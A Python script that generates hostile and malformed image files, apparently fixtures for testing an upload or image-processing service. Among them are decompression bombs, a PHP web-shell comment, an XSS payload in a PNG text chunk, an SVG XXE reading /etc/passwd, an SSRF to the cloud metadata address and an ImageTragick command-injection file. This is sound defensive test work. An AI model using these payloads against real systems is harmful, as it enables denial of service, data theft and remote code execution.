#!/usr/bin/env python3
"""Write small hostile/edge image files whose *decoded* cost is large or whose structure is
malformed.  Own work, written from the format specifications; free to reuse (CC0).
usage: make_hostile.py OUTDIR [--small]     (needs Pillow for a few carriers; no network)
--small writes no more than 100 MB into a bomb, whatever its header says: enough for tests, in seconds."""
import io, os, struct, sys, zlib, random
from PIL import Image
small = '--small' in sys.argv
out = sys.argv[1]; os.makedirs(out, exist_ok=True)
def w(name, data):
    with open(os.path.join(out, name), 'wb') as f: f.write(data)
PNG = b'\x89PNG\r\n\x1a\n'
def ch(t, d, crc=None):
    c = zlib.crc32(t + d) & 0xffffffff if crc is None else crc
    return struct.pack('>I', len(d)) + t + d + struct.pack('>I', c)
def ihdr(wd, ht, bd, ct, il=0): return ch(b'IHDR', struct.pack('>IIBBBBB', wd, ht, bd, ct, 0, 0, il))
def zrep(row, n):
    if small: n = min(n, (100 << 20) // len(row))
    c = zlib.compressobj(1 if small else 9); o = []
    blk = row * max(1, min(n, 1 << 20) // max(1, len(row)) or 1); per = len(blk) // len(row)
    full, rest = divmod(n, per)
    for _ in range(full): o.append(c.compress(blk))
    o.append(c.compress(row * rest)); o.append(c.flush()); return b''.join(o)
def bomb(wd, ht, bd, ct):
    ncomp = {0:1, 2:3, 3:1, 4:2, 6:4}[ct]
    row = b'\0' * (1 + (wd * bd * ncomp + 7) // 8)
    return PNG + ihdr(wd, ht, bd, ct) + ch(b'IDAT', zrep(row, ht)) + ch(b'IEND', b'')
def smallpng(*extra, size=(16, 16)):
    b = io.BytesIO(); Image.new('RGB', size, (90, 120, 30)).save(b, 'PNG'); d = b.getvalue()
    return d[:33] + b''.join(extra) + d[33:]
# --- PNG pixel bombs
w('png_bomb_gray8_30000x30000_900MP.png', bomb(30000, 30000, 8, 0))
w('png_bomb_1bit_60000x60000_3600MP.png', bomb(60000, 60000, 1, 0))
w('png_rgb8_13300x13300_177MP_below_pillow_error.png', bomb(13300, 13300, 8, 2))
w('png_rgb16a_6000x6000_36MP_288MB.png', bomb(6000, 6000, 16, 6))
w('png_1x30000000_tall.png', bomb(1, 30000000, 8, 0))
w('png_dims_2147483647.png', PNG + ihdr(2**31-1, 2**31-1, 8, 6) + ch(b'IDAT', zlib.compress(b'\0'*64)) + ch(b'IEND', b''))
w('png_dims_zero.png', PNG + ihdr(0, 0, 8, 2) + ch(b'IDAT', zlib.compress(b'')) + ch(b'IEND', b''))
w('png_short_idat.png', PNG + ihdr(4000, 4000, 8, 2) + ch(b'IDAT', zlib.compress(b'\0'*100)) + ch(b'IEND', b''))
w('png_extra_idat_64MB_after_image.png', PNG + ihdr(8, 8, 8, 0) + ch(b'IDAT', zrep(b'\0'*9, 8 + (64<<20)//9)) + ch(b'IEND', b''))
# --- PNG ancillary bombs / structure
w('png_ztxt_bomb_256MB.png', smallpng(ch(b'zTXt', b'k\0\0' + zrep(b'A'*4096, 65536))))
w('png_ztxt_100x_1MB.png', smallpng(*[ch(b'zTXt', b'k%d\0\0' % i + zrep(b'A'*4096, 255)) for i in range(100)]))
w('png_itxt_bomb_256MB.png', smallpng(ch(b'iTXt', b'k\0\1\0\0\0' + zrep(b'A'*4096, 65536))))
w('png_iccp_bomb_256MB.png', smallpng(ch(b'iCCP', b'p\0\0' + zrep(b'\0'*4096, 65536))))
w('png_iccp_garbage.png', smallpng(ch(b'iCCP', b'p\0\0' + zlib.compress(os.urandom(600)))))
w('png_100k_text_chunks.png', smallpng(*[ch(b'tEXt', b'k%d\0v' % i) for i in range(100000)]))
w('png_bad_crc.png', PNG + ihdr(8, 8, 8, 0) + ch(b'IDAT', zlib.compress(b'\0'*72), crc=1) + ch(b'IEND', b''))
w('png_chunk_len_4GB.png', PNG + ihdr(8, 8, 8, 0) + struct.pack('>I', 0xffffffff) + b'IDAT' + b'\0'*32)
w('png_no_plte_indexed.png', PNG + ihdr(8, 8, 8, 3) + ch(b'IDAT', zlib.compress(b'\1'*72)) + ch(b'IEND', b''))
w('png_zip_polyglot.png', smallpng() + b'PK\5\6' + b'\0'*18)
w('png_html_polyglot.png', smallpng(ch(b'tEXt', b'c\0<script>alert(document.domain)</script>')))
ac = ch(b'acTL', struct.pack('>II', 2**31-1, 0))
w('apng_2147483647_frames_declared.png', smallpng(ac))
fc = b''.join(ch(b'fcTL', struct.pack('>IIIIIHHBB', 2*i, 16, 16, 0, 0, 1, 100, 0, 0)) +
     ch(b'fdAT', struct.pack('>I', 2*i+1) + zlib.compress(b'\0'*(49*16))) for i in range(20000))
w('apng_20000_frames.png', smallpng(ch(b'acTL', struct.pack('>II', 20000, 0)) + fc))
# --- privacy carriers (must come out without GPS/serial when strip=on)
def exif_gps():
    ex = Image.Exif(); ex[0x010f] = 'SECRETCAM'; ex[0x0110] = 'MODEL'; ex[0x013b] = 'Jane Doe'; ex[0x0112] = 6
    ex[0xA431] = 'SERIAL-1234567'
    g = ex.get_ifd(0x8825); g[1]='N'; g[2]=(48.0, 51.0, 29.6); g[3]='E'; g[4]=(2.0, 17.0, 40.2)
    return ex
xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
       b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
       b'exif:GPSLatitude="48,51.493N" exif:GPSLongitude="2,17.67E"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>')
im = Image.radial_gradient('L').resize((320, 200)).convert('RGB')
im.save(os.path.join(out, 'privacy_gps_exif_xmp.jpg'), exif=exif_gps(), xmp=xmp, comment=b'home address: 1 Example St')
im.save(os.path.join(out, 'privacy_gps_exif.png'), exif=exif_gps())
im.save(os.path.join(out, 'privacy_gps_exif_xmp.webp'), exif=exif_gps(), xmp=xmp)
im.save(os.path.join(out, 'privacy_gps_exif.tiff'), exif=exif_gps())
# --- JPEG
def jpg(size=(64, 64), **k):
    b = io.BytesIO(); Image.effect_noise(size, 60).convert('RGB').save(b, 'JPEG', **k); return b.getvalue()
j = jpg()
def setdims(d, wd, ht):
    i = 2
    while True:
        m = d[i+1]; L = struct.unpack('>H', d[i+2:i+4])[0]
        if 0xC0 <= m <= 0xC2: return d[:i+5] + struct.pack('>HH', ht, wd) + d[i+9:]
        i += 2 + L
w('jpeg_dims_65500x65500.jpg', setdims(j, 65500, 65500))
w('jpeg_dims_0x0.jpg', setdims(j, 0, 0))
w('jpeg_truncated_half.jpg', j[:len(j)//2]); w('jpeg_soi_only.jpg', j[:2]); w('jpeg_no_eoi.jpg', j[:-2])
p = jpg((3000, 3000), progressive=True, quality=20)
last = p.rfind(b'\xff\xda'); scan = p[last:-2]
w('jpeg_progressive_2000_scans.jpg', p[:-2] + scan[:12] * 0 + (scan[:400]) * 2000 + b'\xff\xd9')
big = jpg((2000, 2000)); w('jpeg_10000_app_segments.jpg', j[:2] + (b'\xff\xe9\x00\x42' + b'x'*64) * 10000 + j[2:])
w('jpeg_icc_missing_chunks.jpg', j[:2] + b'\xff\xe2' + struct.pack('>H', 2+14+100) + b'ICC_PROFILE\0' + bytes([1, 255]) + b'\0'*100 + j[2:])
w('jpeg_exif_ifd_loop.jpg', j[:2] + b'\xff\xe1' + struct.pack('>H', 2+6+26) + b'Exif\0\0' + b'II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0' + j[2:])
for o in (0, 9, 255):
    ex = Image.Exif(); ex[0x0112] = o; im.save(os.path.join(out, f'jpeg_orientation_{o}.jpg'), exif=ex)
im.convert('CMYK').save(os.path.join(out, 'jpeg_cmyk.jpg'))
w('jpeg_php_in_comment.jpg', j[:2] + b'\xff\xfe' + struct.pack('>H', 2+29) + b'<?php system($_GET["c"]); ?> ' + j[2:])
# --- GIF
def gif(wd, ht, frames, fw=1, fh=1, lzw=b'\x02\x02\x44\x01\x00'):
    return (b'GIF89a' + struct.pack('<HH', wd, ht) + b'\x80\0\0' + b'\0\0\0\xff\xff\xff' +
            (b'\x21\xf9\x04\0\x01\0\0\0' + b'\x2c\0\0\0\0' + struct.pack('<HH', fw, fh) + b'\0' + lzw) * frames + b';')
w('gif_65535x65535_1frame.gif', gif(65535, 65535, 1)); w('gif_1x1_100000_frames.gif', gif(1, 1, 100000))
w('gif_20000x20000_200_frames.gif', gif(20000, 20000, 200)); w('gif_frame_larger_than_canvas.gif', gif(1, 1, 1, 65535, 65535))
w('gif_no_trailer.gif', gif(8, 8, 1)[:-1]); w('gif_header_only.gif', b'GIF89a')
# --- TIFF
def ifd(tags, nxt=0):
    return struct.pack('<H', len(tags)) + b''.join(struct.pack('<HHII', *t) for t in sorted(tags)) + struct.pack('<I', nxt)
def tiff(tags, nxt=0, tail=b''): return b'II*\0\x08\0\0\0' + ifd(tags, nxt) + tail
def base(wd, ht, off, cnt, comp=1, bits=8, photo=1, rps=None):
    return [(256,4,1,wd),(257,4,1,ht),(258,3,1,bits),(259,3,1,comp),(262,3,1,photo),(273,4,1,off),(277,3,1,1),(278,4,1,rps or ht),(279,4,1,cnt)]
w('tiff_ifd_self_loop.tif', tiff(base(8, 8, 200, 64), nxt=8, tail=b'\0'*300))
n = 20000; sz = 2 + 12*9 + 4
w('tiff_20000_ifds.tif', b'II*\0\x08\0\0\0' + b''.join(ifd(base(8, 8, 8 + n*sz, 64), (8 + (i+1)*sz) if i < n-1 else 0) for i in range(n)) + b'\0'*64)
w('tiff_strip_past_eof.tif', tiff(base(512, 512, 0x7fffffff, 0x7fffffff)))
w('tiff_dims_4G.tif', tiff(base(0xffffffff, 0xffffffff, 200, 64), tail=b'\0'*64))
z = zrep(b'\0'*40000, 40000); w('tiff_deflate_bomb_40000x40000_1600MP.tif', tiff(base(40000, 40000, 8+2+12*9+4, len(z), comp=8), tail=z))
w('tiff_strips_1_row_each_declared_16M.tif', tiff([(t if t[0] != 273 else (273,4,16_000_000,200)) for t in base(8, 16_000_000, 200, 64, rps=1)], tail=b'\0'*4096))
w('tiff_tag_count_4G.tif', tiff(base(8, 8, 300, 64) + [(34675,7,0xfffffff0,100)], tail=b'\0'*400))
w('bigtiff_offset_2_63.tif', b'II+\0\x08\0\0\0' + struct.pack('<Q', 2**63-8))
# --- WebP / BMP / ICO / PPM / JP2 / AVIF headers
if not small: Image.new('RGB', (16383, 16383), (1, 2, 3)).save(os.path.join(out, 'webp_lossless_16383x16383_268MP.webp'), lossless=True, method=0)
def bmp(wd, ht, bits=24, comp=0, tail=b''):
    return b'BM' + struct.pack('<IHHI', 54+len(tail), 0, 0, 54) + struct.pack('<IiiHHIIiiII', 40, wd, ht, 1, bits, comp, 0, 0, 0, 0, 0) + tail
w('bmp_dims_2147483647.bmp', bmp(2**31-1, 2**31-1)); w('bmp_neg_height_min.bmp', bmp(8, -2**31)); w('bmp_bpp_40.bmp', bmp(512, 8, 40, 0, b'\0'*4096))
w('bmp_rle8_40000x40000.bmp', bmp(40000, 40000, 8, 1, b'\0'*1024 + b'\xff\0'*100 + b'\0\1'))
pb = bomb(20000, 20000, 8, 0)
w('ico_png_bomb_400MP.ico', struct.pack('<HHH', 0, 1, 1) + struct.pack('<BBBBHHII', 0, 0, 0, 0, 1, 32, len(pb), 22) + pb)
w('ppm_100000x100000_header_only.ppm', b'P6\n100000 100000\n255\n'); w('ppm_maxval_0.ppm', b'P6\n4 4\n0\n' + b'\0'*48)
siz = struct.pack('>HIIIIIIIIH', 0, 0x7fffffff, 0x7fffffff, 0, 0, 1, 1, 0, 0, 1) + bytes([7, 1, 1])
w('j2k_2G_dims_1x1_tiles.j2k', b'\xff\x4f\xff\x51' + struct.pack('>H', len(siz)+2) + siz + b'\xff\xd9')
# --- must be refused as unsupported (415)
w('svg_billion_laughs.svg', b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">' + b''.join(b'<!ENTITY %c "%s">' % (98+i, (b'&%c;' % (97+i))*10) for i in range(9)) + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>')
w('svg_xxe_file.svg', b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')
w('svg_href_metadata_ip.svg', b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest/meta-data/" width="9" height="9"/></svg>')
w('svg_named.png', b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
w('imagetragick_mvg_named.jpg', b'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://127.0.0.1/x.jpg"|touch "/tmp/tragick)\'\npop graphic-context\n')
w('eps_named.png', b'%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EOF\n')
w('pdf_named.jpg', b'%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n')
w('empty.png', b''); w('one_byte.jpg', b'\xff'); w('text.png', b'hello world\n' * 10); w('html.png', b'<!doctype html><script>alert(1)</script>')
random.seed(7); w('random_1MB.jpg', random.randbytes(1 << 20)); w('zeros_1MB.png', bytes(1 << 20)); w('gzip_bomb_100MB.png', __import__('gzip').compress(bytes(100 << 20)))
# --- legal edge cases that must succeed
for s in ((1, 1), (1, 4096), (4096, 1), (3, 5), (7, 7), (8191, 3)): Image.new('RGB', s, (9, 99, 199)).save(os.path.join(out, f'ok_{s[0]}x{s[1]}.png'))
Image.new('LA', (33, 17), (9, 99)).save(os.path.join(out, 'ok_gray_alpha.png')); Image.new('I;16', (33, 17), 40000).save(os.path.join(out, 'ok_gray16.png'))
Image.new('P', (33, 17), 3).save(os.path.join(out, 'ok_palette.png')); Image.new('1', (33, 17), 1).save(os.path.join(out, 'ok_1bit.png'))
im.rotate(0).save(os.path.join(out, 'ok_progressive.jpg'), progressive=True)
